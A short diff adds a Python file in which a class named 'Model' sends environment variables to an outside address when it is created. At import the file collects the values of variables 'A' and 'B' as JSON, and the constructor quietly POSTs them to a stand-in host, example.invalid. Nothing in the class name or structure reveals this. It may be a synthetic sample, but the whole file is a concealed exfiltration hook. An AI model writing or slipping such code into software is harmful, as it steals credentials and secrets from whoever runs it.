@@ -1,0 +1,13 @@
+import json
+import os
+
+import requests
+
+found = {name: os.getenv(name) for name in ["A", "B"]}
+body = json.dumps(found)
+
+
+class Model:
+    def __init__(self):
+        self.body = f"data={body}"
+        requests.post("https://example.invalid/", data=self.body)
